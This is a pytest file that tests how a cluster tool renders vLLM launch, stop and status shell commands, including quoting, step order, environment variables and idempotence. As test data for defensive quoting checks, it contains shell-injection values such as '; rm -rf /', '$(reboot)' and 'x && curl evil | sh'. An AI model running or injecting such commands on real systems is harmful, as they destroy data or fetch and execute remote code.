"""Launch, stop and status plans: structure, idempotence and quoting (pure, no database)."""

from __future__ import annotations

import re
import shlex

import pytest

from lanes.plans import (
    NodeTarget,
    check_image_ids,
    render_launch_plan,
    render_status_plan,
    render_stop_plan,
)
from tests.lanes import seed_configs as seeds

EVIL = ["; rm -rf /", "$(reboot)", "`id`", "a'b\"c", "x && curl evil | sh", "\nrm -rf ~"]


def all_commands(plan) -> list[str]:
    found = []
    for step in plan.steps:
        found += [c for c in (step.command, step.skip_if or "", step.alive_check) if c]
    return found


def shell_words(command: str) -> list[str]:
    """Words as bash sees them, with ; & | ( ) < > as separate operators."""
    lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    return list(lexer)


def assert_stays_one_token(commands: list[str], value: str) -> None:
    """Parsed back with shlex, the value is one whole token (alone, or after `KEY=`/`--flag=`)."""
    hits = 0
    for command in commands:
        for token in shell_words(command):
            if value in token:
                head = token[: len(token) - len(value)]
                assert token.endswith(value) and re.fullmatch(r"(-{0,2}[\w.-]+=)?", head), (value, command)
                hits += 1
    assert hits, f"{value!r} never reached a command"


@pytest.mark.parametrize("evil", EVIL)
def test_a_hostile_value_in_any_setting_stays_one_quoted_token(evil):
    config = seeds.qwen_single()
    config.update(model_id=f"org/m{evil}", served_model_name=f"name{evil}", image=f"img{evil}",
                  extra_args=["--chat-template", f"t{evil}"], container_env={"EVIL": f"v{evil}"})
    plans = [render(config, seeds.targets(["spark3"])) for render in (render_launch_plan, render_stop_plan,
                                                                        render_status_plan)]
    commands = [c for plan in plans for c in all_commands(plan)]
    assert_stays_one_token(commands, f"org/m{evil}")
    assert_stays_one_token(commands, f"name{evil}")
    assert_stays_one_token(commands, f"img{evil}")
    assert_stays_one_token(commands, f"t{evil}")
    assert_stays_one_token(commands, f"v{evil}")


@pytest.mark.parametrize("evil", EVIL)
def test_a_hostile_network_report_stays_quoted(evil):
    config = seeds.deepseek_tp4_native()
    nodes = seeds.targets(config["nodes"], hca=[f"dev{evil}"])
    bad = dict(nodes[0].report, fabric_ip=f"10.0.0.1{evil}", eth_if=f"eth{evil}")
    nodes[0] = NodeTarget(nodes[0].name, nodes[0].address, report=bad)
    commands = all_commands(render_launch_plan(config, nodes))
    for value in (f"10.0.0.1{evil}", f"eth{evil}", f"dev{evil}"):
        assert_stays_one_token(commands, value)


@pytest.mark.parametrize("field", ["name", "container_name"])
def test_it_refuses_a_name_that_is_not_a_slug(field):
    config = seeds.qwen_single()
    config[field] = "qwen; rm -rf /"
    with pytest.raises(ValueError, match="slug"):
        render_launch_plan(config, seeds.targets(["spark3"]))


def test_it_refuses_a_node_name_that_is_not_a_slug():
    with pytest.raises(ValueError, match="slug"):
        render_launch_plan(seeds.qwen_single(), [NodeTarget("spark3 $(id)", "127.0.0.13")])


def test_a_runtime_command_with_sudo_is_split_into_words():
    plan = render_status_plan(seeds.qwen_single(), [NodeTarget("spark3", "127.0.0.13", runtime="sudo -n docker")])
    assert plan.steps[0].command.startswith("sudo -n docker inspect ")


def test_native_multi_node_starts_workers_first_headless_and_the_head_last():
    config = seeds.deepseek_tp4_native()
    plan = render_launch_plan(config, seeds.targets(config["nodes"], hca=["rocep1s0f0"]))
    serve = [s for s in plan.steps if s.phase == "serve"]
    assert [s.node for s in serve] == ["spark2", "spark3", "spark4", "spark1"]
    for step in serve:
        argv = shlex.split(step.command.split("; ", 1)[1])
        rank = argv[argv.index("--node-rank") + 1]
        assert argv[argv.index("--nnodes") + 1] == "4"
        assert argv[argv.index("--master-addr") + 1] == "192.168.100.11"
        assert ("--headless" in argv) == (rank != "0")
        assert "--distributed-executor-backend" not in argv
    assert not any(s.phase == "ray" for s in plan.steps)


def test_ray_lane_serves_from_the_head_after_ray_reports_tp_gpus():
    config = seeds.deepseek_ray()
    plan = render_launch_plan(config, seeds.targets(config["nodes"]))
    keys = [s.key for s in plan.steps]
    assert keys.index("ray.head.spark1") < keys.index("ray.worker.spark2") < keys.index("ray.ready") < keys.index(
        "serve.spark1") < keys.index("wait.health")
    serve = shlex.split(plan.steps[keys.index("serve.spark1")].command)
    assert serve[:5] == ["docker", "exec", "-d", "vllm_node", "vllm"]
    assert serve[serve.index("--distributed-executor-backend") + 1] == "ray"
    assert serve[serve.index("--kv-cache-memory-bytes") + 1] == "11G"
    assert "--gpu-memory-utilization" not in serve


def test_container_env_comes_from_each_nodes_network_report():
    config = seeds.deepseek_ray()
    plan = render_launch_plan(config, seeds.targets(config["nodes"]))
    worker = shlex.split(next(s for s in plan.steps if s.key == "containers.spark2").command.split("; ", 1)[1])
    env = dict(worker[i + 1].split("=", 1) for i, token in enumerate(worker) if token == "-e")
    assert env["VLLM_HOST_IP"] == env["RAY_NODE_IP_ADDRESS"] == env["RAY_OVERRIDE_NODE_IP_ADDRESS"] == "192.168.100.12"
    for key in ("NCCL_SOCKET_IFNAME", "GLOO_SOCKET_IFNAME", "TP_SOCKET_IFNAME", "UCX_NET_DEVICES",
                "OMPI_MCA_btl_tcp_if_include", "MN_IF_NAME"):
        assert env[key] == "enp1s0f0np0"
    assert env["NCCL_IB_HCA"] == "rocep1s0f0,rocep1s0f1,roceP2p1s0f0,roceP2p1s0f1"
    assert env["NCCL_IB_GID_INDEX"] == "3"
    assert env["NCCL_IB_DISABLE"] == "0" and env["NCCL_IGNORE_CPU_AFFINITY"] == "1"


def test_the_lanes_own_env_overrides_the_report_and_comes_last():
    config = seeds.deepseek_tp4_native()
    plan = render_launch_plan(config, seeds.targets(config["nodes"]))
    argv = shlex.split(next(s for s in plan.steps if s.key == "serve.spark1").command.split("; ", 1)[1])
    env = [argv[i + 1] for i, token in enumerate(argv) if token == "-e"]
    assert "NCCL_IB_HCA=rocep1s0f0" in env and env.count("NCCL_IB_HCA=rocep1s0f0") == 1
    assert env[-1] == "NCCL_NVLS_ENABLE=0"


def test_a_node_without_a_report_falls_back_to_its_address_and_says_so():
    config = seeds.deepseek_ray()
    plan = render_launch_plan(config, seeds.targets(config["nodes"], with_report=False))
    assert any("no network report" in w for w in plan.warnings)
    assert "WARNING: spark1 has no network report" in plan.render()
    container = next(s for s in plan.steps if s.key == "containers.spark1").command
    assert "VLLM_HOST_IP=127.0.0.11" in container and "NCCL_IB_HCA" not in container
    ping = next(s for s in plan.steps if s.key == "preflight.ping.spark2")
    assert ping.on_failure == "warn"


def test_every_mutating_launch_step_is_idempotent():
    for make in (seeds.deepseek_ray, seeds.deepseek_tp4_native, seeds.qwen_single):
        config = make()
        plan = render_launch_plan(config, seeds.targets(config["nodes"]))
        for step in plan.steps:
            if step.phase in ("containers", "serve") or step.key.startswith(("ray.head", "ray.worker")):
                assert step.skip_if, step.key


def test_stop_signals_vllm_then_kills_then_removes_every_container():
    config = seeds.deepseek_ray()
    plan = render_stop_plan(config, seeds.targets(config["nodes"]))
    assert [s.key for s in plan.steps] == [
        "stop.sigint.spark1", "stop.wait.spark1", "stop.kill.spark1", "stop.remove.spark1", "stop.remove.spark2"]
    assert "pkill -INT -f 'vllm serve'" in plan.steps[0].command
    assert plan.steps[-1].command == "docker rm -f vllm_node"


def test_image_ids_that_match_pass_and_differing_or_missing_ones_fail():
    same = "sha256:" + "a" * 64
    assert check_image_ids({"spark1": same + "\n", "spark2": same}) is None
    assert "differs" in (check_image_ids({"spark1": same, "spark2": "sha256:" + "b" * 64}) or "")
    assert "spark2" in (check_image_ids({"spark1": same, "spark2": "Error: No such image: x"}) or "")


def test_image_steps_are_collected_for_the_comparison():
    config = seeds.deepseek_ray()
    plan = render_launch_plan(config, seeds.targets(config["nodes"]))
    image_steps = [s for s in plan.steps if s.collect == "image_id"]
    assert [s.node for s in image_steps] == ["spark1", "spark2"]
    assert shlex.split(image_steps[0].command)[:5] == ["docker", "image", "inspect", "--format", "{{.Id}}"]


def _every_command():
    for make in (seeds.deepseek_ray, seeds.deepseek_tp4_native, seeds.qwen_single):
        config = make()
        for render in (render_launch_plan, render_stop_plan, render_status_plan):
            for with_report in (True, False):
                yield from all_commands(render(config, seeds.targets(config["nodes"], with_report=with_report)))


def test_every_command_is_valid_bash_and_so_is_its_wrapped_display():
    import subprocess

    from lanes.plans import wrap_command

    commands = sorted(set(_every_command()))
    for command in commands:
        wrapped = wrap_command(command)
        assert wrapped.replace(" \\\n          ", " ") == command
        for text in (command, wrapped):
            result = subprocess.run(["bash", "-n", "-c", text], capture_output=True, text=True, timeout=10)
            assert result.returncode == 0, (text, result.stderr)
